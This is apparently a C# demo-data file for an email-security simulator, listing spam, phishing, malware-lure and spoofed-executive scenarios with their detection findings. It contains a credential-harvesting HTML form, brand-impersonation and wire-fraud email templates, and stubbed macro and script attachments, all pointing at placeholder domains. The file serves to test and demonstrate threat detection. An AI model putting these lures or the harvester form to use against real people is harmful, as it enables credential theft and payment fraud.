namespace EmailSecurity.Simulator.Investigate.Demo
{
    /// <summary>Unwanted mail: spam, phishing, malware, suspicious lures and spoofed executives.</summary>
    internal static class ThreatScenarios
    {
        private static Mailbox M(string name, string address) => new Mailbox(name, address);

        private const string HarvesterPage =
            "<html><head><title>Sign in to your account</title></head><body>\n" +
            "<form action=\"https://invoice-portal.test/secure/login.php\" method=\"post\">\n" +
            "<input name=\"email\" placeholder=\"Email\"><input name=\"password\" type=\"password\">\n" +
            "<button>View invoice {n}</button>\n</form></body></html>\n";

        public static readonly Scenario[] All =
        {
            new Scenario
            {
                Key = "gift-card", Disposition = "SPAM", Reputable = false,
                Subjects = new[] { "You have won a $500 gift card!", "Claim your reward before midnight",
                    "Congratulations {first}, you were selected" },
                Senders = new[] { M("Rewards Center", "rewards@prize-center.test") },
                Body = "Congratulations {first}!\n\nYou have been selected to receive a $500 gift card. Claim it " +
                    "now: https://prize-center.test/claim?id={n}\n\nOffer expires today.",
                Links = new[] { new Link("https://prize-center.test/claim", "Claim now") },
                Threats = new[] { "Spam", "Scam" }, Spf = "neutral", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "Prize scam language", "Sender domain has poor reputation" },
                Findings = new[] { new FindingSpec("PrizeScam", "content_classifier", "Prize or reward lure", "body",
                    "body", 0.81, "gift card") },
            },
            new Scenario
            {
                Key = "mortgage", Disposition = "SPAM", Reputable = false,
                Subjects = new[] { "Lowest mortgage rates of the year", "Pre-approved: refinance today",
                    "Make $5,000 a week from home" },
                Senders = new[] { M("LendQuick Offers", "offers@lendquick.test"),
                    M("FastCash Jobs", "jobs@fastcash-now.test") },
                Body = "Hi {first},\n\nRates just dropped. See if you qualify in 60 seconds: " +
                    "https://lendquick.test/apply\n\nTo stop receiving these emails reply STOP.",
                Links = new[] { new Link("https://lendquick.test/apply", "Check your rate") },
                Threats = new[] { "Spam" }, Spf = "pass", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "Unsolicited commercial content", "No prior relationship with sender" },
                Findings = new[] { new FindingSpec("Spam", "content_classifier", "Unsolicited commercial email", "body",
                    "body", 0.77, "lendquick.test") },
            },
            new Scenario
            {
                Key = "seo", Disposition = "SPAM", Reputable = false,
                Subjects = new[] { "RE: Your website ranking", "Quick question about contoso.example",
                    "Page 1 of Google in 30 days" },
                Senders = new[] { M("Ravi | RankBoost", "ravi@rankboost.test") },
                Body = "Hello {first},\n\nI noticed contoso.example is not ranking for key terms. We can get you to " +
                    "page 1 in 30 days. Interested?\n\nRavi",
                Threats = new[] { "Spam" }, Spf = "pass", Dkim = "pass", Dmarc = "none",
                Reasons = new[] { "Cold outreach pattern" },
                Findings = new[] { new FindingSpec("Spam", "content_classifier", "SEO cold outreach", "body", "body",
                    0.69, "rankboost.test") },
            },
            new Scenario
            {
                Key = "invoice-overdue", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.9,
                Subjects =
                    new[] { "Invoice INV-{n} overdue", "FINAL NOTICE: Invoice INV-{n}", "Payment reminder INV-{n}" },
                Senders = new[] { M("Accounts Receivable", "billing@invoice-portal.test"),
                    M("Billing Department", "ar@evil.test") },
                Body = "Dear {first},\n\nInvoice INV-{n} is now 14 days overdue. Open the attached invoice and sign " +
                    "in to view the balance.\nFailure to pay within 24 hours will result in a late fee.\n\n" +
                    "Accounts Receivable",
                Attachment = new AttachmentSpec("INV-{n}.htm", "text/html", HarvesterPage, true),
                Threats = new[] { "CredentialHarvester", "Malware" }, Spf = "pass", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "Attachment contains a credential harvesting form",
                    "Sender domain registered 6 days ago", "Urgent payment language" },
                Findings = new[]
                {
                    new FindingSpec("CredentialHarvester", "attachment_analysis",
                        "HTML attachment posts a password to an external site", "attachment", "attachment", 0.98,
                        "https://invoice-portal.test/secure/login.php", onAttachment: true),
                    new FindingSpec("NewDomain", "domain_age", "Sender domain registered 6 days ago", "header.from",
                        "header", 0.74, "invoice-portal.test"),
                },
            },
            new Scenario
            {
                Key = "mailbox-full", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.85,
                Subjects = new[] { "Your mailbox is almost full", "Action required: mailbox storage at 98%",
                    "Messages on hold: upgrade your quota" },
                Senders = new[] { M("IT Service Desk", "it-helpdesk@micr0soft-support.example"),
                    M("Microsoft 365 Admin", "admin@office365-verify.test") },
                Body = "Hi {first},\n\nYour mailbox has reached 98% of its storage limit. Incoming messages will be " +
                    "held until you verify your account.\n\n" +
                    "Verify now: https://micr0soft-support.example/owa/quota?u={n}\n\nIT Service Desk",
                Links = new[] { new Link("https://micr0soft-support.example/owa/quota", "Verify now") },
                Threats = new[] { "CredentialHarvester", "BrandImpersonation" }, Spf = "pass", Dkim = "none",
                Dmarc = "none",
                Reasons = new[] { "Link to a credential harvesting page", "Lookalike of a well-known brand's domain",
                    "Display name impersonates internal IT" },
                Findings = new[]
                {
                    new FindingSpec("CredentialHarvester", "link_analysis", "Link leads to a fake Microsoft 365 " +
                        "sign-in page", "body.links", "body", 0.97, "https://micr0soft-support.example/owa/quota"),
                    new FindingSpec("BrandImpersonation", "domain_similarity", "Domain imitates microsoft",
                        "header.from", "header", 0.88, "micr0soft-support.example"),
                },
            },
            new Scenario
            {
                Key = "paypal-verify", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.85,
                Subjects = new[] { "Action required: verify your account", "Unusual sign-in activity detected",
                    "Your account has been limited" },
                Senders = new[] { M("PayPal Security", "service@paypa1-secure.example") },
                Body = "Dear customer,\n\nWe noticed unusual activity and limited your account. Confirm your " +
                    "identity within 48 hours to restore access:\nhttps://paypa1-secure.example/verify/{n}\n\n" +
                    "Security Team",
                Links = new[] { new Link("https://paypa1-secure.example/verify", "Confirm identity") },
                Threats = new[] { "CredentialHarvester", "BrandImpersonation", "SuspiciousLink" }, Spf = "pass",
                Dkim = "pass", Dmarc = "none",
                Reasons = new[] { "Lookalike of a payment brand's domain", "Link to a newly registered domain" },
                Findings = new[]
                {
                    new FindingSpec("BrandImpersonation", "domain_similarity", "Domain imitates paypal", "header.from",
                        "header", 0.93, "paypa1-secure.example"),
                    new FindingSpec("CredentialHarvester", "link_analysis", "Link leads to a fake payment login",
                        "body.links", "body", 0.95, "https://paypa1-secure.example/verify"),
                },
            },
            new Scenario
            {
                Key = "docusign", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.8,
                Subjects = new[] { "Please review and sign: Q4 Services Agreement", "Completed: Please DocuSign {n}",
                    "You have a document waiting" },
                Senders = new[] { M("DocuSign via Procurement", "dse@docusign-notice.example") },
                Body = "{first},\n\nA document has been sent to you for signature: Q4 Services Agreement.\n" +
                    "REVIEW DOCUMENT: https://docusign-notice.example/review/{n}\n\nDo not share this email.",
                Links = new[] { new Link("https://docusign-notice.example/review", "REVIEW DOCUMENT") },
                Threats = new[] { "CredentialHarvester", "BrandImpersonation" }, Spf = "fail", Dkim = "none",
                Dmarc = "fail",
                Reasons = new[] { "Lookalike of an e-signature brand", "SPF failed for sender domain" },
                Findings = new[] { new FindingSpec("BrandImpersonation", "brand_detection", "E-signature brand " +
                    "template from an unrelated domain", "body", "body", 0.91, "docusign-notice.example") },
            },
            new Scenario
            {
                Key = "parcel", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.9,
                Subjects = new[] { "Your package could not be delivered", "Delivery attempt failed - shipment {n}",
                    "Customs fee required for parcel {n}" },
                Senders = new[] { M("DHL Express", "noreply@dhl-tracking-update.example") },
                Body = "Dear {first},\n\nWe were unable to deliver shipment {n}. Open the attached label to " +
                    "reschedule delivery.\n\nDHL Express",
                Attachment = new AttachmentSpec("Shipping_Label_{n}.zip", "application/zip",
                    "PK\u0003\u0004\u0014\u0000\u0000\u0000\u0008\u0000Shipping_Label.js", true),
                Threats = new[] { "Malware", "BrandImpersonation" }, Spf = "pass", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "Archive contains a script file", "Lookalike of a courier brand's domain" },
                Findings = new[]
                {
                    new FindingSpec("Malware", "attachment_analysis", "ZIP archive contains a JavaScript downloader",
                        "attachment", "attachment", 0.99, "Shipping_Label.js", onAttachment: true),
                },
            },
            new Scenario
            {
                Key = "payment-macro", Disposition = "MALICIOUS", Reputable = false, QuarantineRate = 0.95,
                Subjects = new[] { "Payment confirmation #{n}", "Remittance advice {n}", "Purchase order PO-{n}" },
                Senders = new[] { M("Finance Team", "finance@evil.test") },
                TargetsExecutives = true,
                Body = "Hello {first},\n\nPlease see the attached remittance advice for payment #{n}. Enable editing " +
                    "to view the details.\n\nRegards,\nFinance",
                Attachment = new AttachmentSpec("Remittance_{n}.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12",
                    "PK\u0003\u0004\u0014\u0000\u0006\u0000xl/vbaProject.bin AutoOpen Shell", true),
                Threats = new[] { "Malware" }, Spf = "pass", Dkim = "pass", Dmarc = "none",
                Reasons = new[] { "Office document with auto-executing macro", "Sender domain on block list" },
                Findings = new[] { new FindingSpec("Malware", "sandbox", "Macro launches a shell command when the " +
                    "workbook opens", "attachment", "attachment", 0.99, "vbaProject.bin", onAttachment: true) },
            },
            new Scenario
            {
                Key = "shared-document", Disposition = "SUSPICIOUS", Reputable = false, QuarantineRate = 0.7,
                Subjects = new[] { "Shared document: Salary adjustments 2026",
                    "{sender} shared \"Bonus plan FY27\" with you", "Document shared: HR policy update" },
                Senders = new[] { M("SharePoint Online", "sharepoint-notify@fileshare-alerts.test") },
                Body = "{first}, a file has been shared with you.\n\nSalary adjustments 2026.xlsx\n" +
                    "Open: https://fileshare-alerts.test/s/{n}\n\nThis link will work for anyone who has it.",
                Links = new[] { new Link("https://fileshare-alerts.test/s/doc", "Open") },
                Threats = new[] { "SuspiciousLink", "BrandImpersonation" }, Spf = "pass", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "File-share lure from an unrelated domain", "Link to a newly registered domain" },
                Findings = new[] { new FindingSpec("SuspiciousLink", "link_analysis", "Link to a domain first seen 3 " +
                    "days ago", "body.links", "body", 0.66, "https://fileshare-alerts.test/s/doc") },
            },
            new Scenario
            {
                Key = "voicemail", Disposition = "SUSPICIOUS", Reputable = false, QuarantineRate = 0.6,
                Subjects = new[] { "New voicemail from +1 (555) 014-{n}", "Missed call: 1 new voice message",
                    "Voice message received (0:42)" },
                Senders = new[] { M("Voicemail Service", "voicemail@voice-mail-center.test") },
                Body = "You have received a new voice message.\n\nFrom: +1 (555) 014-{n}\nLength: 0:42\n\n" +
                    "Play the attached message.",
                Attachment = new AttachmentSpec("VM_{n}.html", "text/html",
                    "<html><body><script>location.href='https://voice-mail-center.test/play?id={n}'</script>" +
                    "</body></html>\n",
                    true),
                Threats = new[] { "SuspiciousLink" }, Spf = "neutral", Dkim = "none", Dmarc = "none",
                Reasons = new[] { "HTML attachment redirects to an external site", "Voicemail lure" },
                Findings = new[] { new FindingSpec("Redirector", "attachment_analysis",
                    "HTML attachment redirects the browser", "attachment", "attachment", 0.71,
                    "https://voice-mail-center.test/play", onAttachment: true) },
            },
            new Scenario
            {
                Key = "urgent-request", Disposition = "SUSPICIOUS", QuarantineRate = 0.5,
                Subjects = new[] { "Urgent: are you available?", "Quick question", "Need your help with something" },
                Senders = new[] { M("Alex Morgan", "alex.morgan.ceo@freemail.test") },
                Body = "{first},\n\nAre you at your desk? I need you to take care of something for me discreetly. " +
                    "I'm in meetings all day, reply here.\n\nAlex\nSent from my phone",
                Threats = new[] { "BEC" }, Spf = "pass", Dkim = "pass", Dmarc = "pass",
                Reasons = new[] { "Display name matches an executive but the address is external",
                    "Urgency and secrecy language" },
                Findings = new[] { new FindingSpec("ExecutiveImpersonation", "impersonation_registry",
                    "Display name matches Alex Morgan from the impersonation registry", "header.from", "header", 0.79,
                    "Alex Morgan <alex.morgan.ceo@freemail.test>") },
            },
            new Scenario
            {
                Key = "wire-transfer", Disposition = "SPOOF", Reputable = false, QuarantineRate = 0.6,
                TargetsExecutives = true,
                Subjects = new[] { "Wire transfer needed today", "Confidential: acquisition payment",
                    "Re: Outstanding payment {n}" },
                Senders = new[] { Tenant.Ceo },
                EnvelopeDomain = "c0ntoso.example", ReplyTo = "alex.morgan.office@freemail.test",
                Body = "{first},\n\nI need a wire of $48,{n} sent to a new vendor before 3pm for the acquisition we " +
                    "discussed. Keep this between us for now.\nBank details to follow.\n\nAlex",
                Threats = new[] { "Spoof", "BEC" }, Spf = "fail", Dkim = "none", Dmarc = "fail",
                Reasons = new[] { "Header From uses the tenant's own domain but DMARC failed",
                    "Reply-To points to an external mailbox", "Payment request" },
                Findings = new[]
                {
                    new FindingSpec("Spoof", "dmarc", "DMARC failed for contoso.example", "header.from", "header", 0.95,
                        "contoso.example"),
                    new FindingSpec("ReplyToMismatch", "header_analysis", "Reply-To differs from From",
                        "header.reply-to", "header", 0.83, "alex.morgan.office@freemail.test"),
                },
            },
            new Scenario
            {
                Key = "bank-details", Disposition = "SPOOF", Reputable = false, QuarantineRate = 0.5,
                Subjects = new[] { "Re: Updated bank details for payment", "Change of remittance account",
                    "Invoice {n} - new bank account" },
                Senders = new[] { M("Rebecca Stone", "rstone@northwind.example") },
                EnvelopeDomain = "wire-transfer.test", ReplyTo = "rstone.northwind@freemail.test",
                Body = "Hi {first},\n\nPlease note our bank details have changed. Use the new account for invoice " +
                    "{n} and all future payments.\nI will send the letter on company paper tomorrow.\n\nRebecca",
                Threats = new[] { "Spoof", "BEC" }, Spf = "fail", Dkim = "fail", Dmarc = "fail",
                Reasons = new[] { "Partner domain spoofed: DMARC failed", "Payment detail change request" },
                Findings = new[] { new FindingSpec("Spoof", "dmarc", "DMARC failed for northwind.example",
                    "header.from", "header", 0.92, "northwind.example") },
            },
        };
    }
}
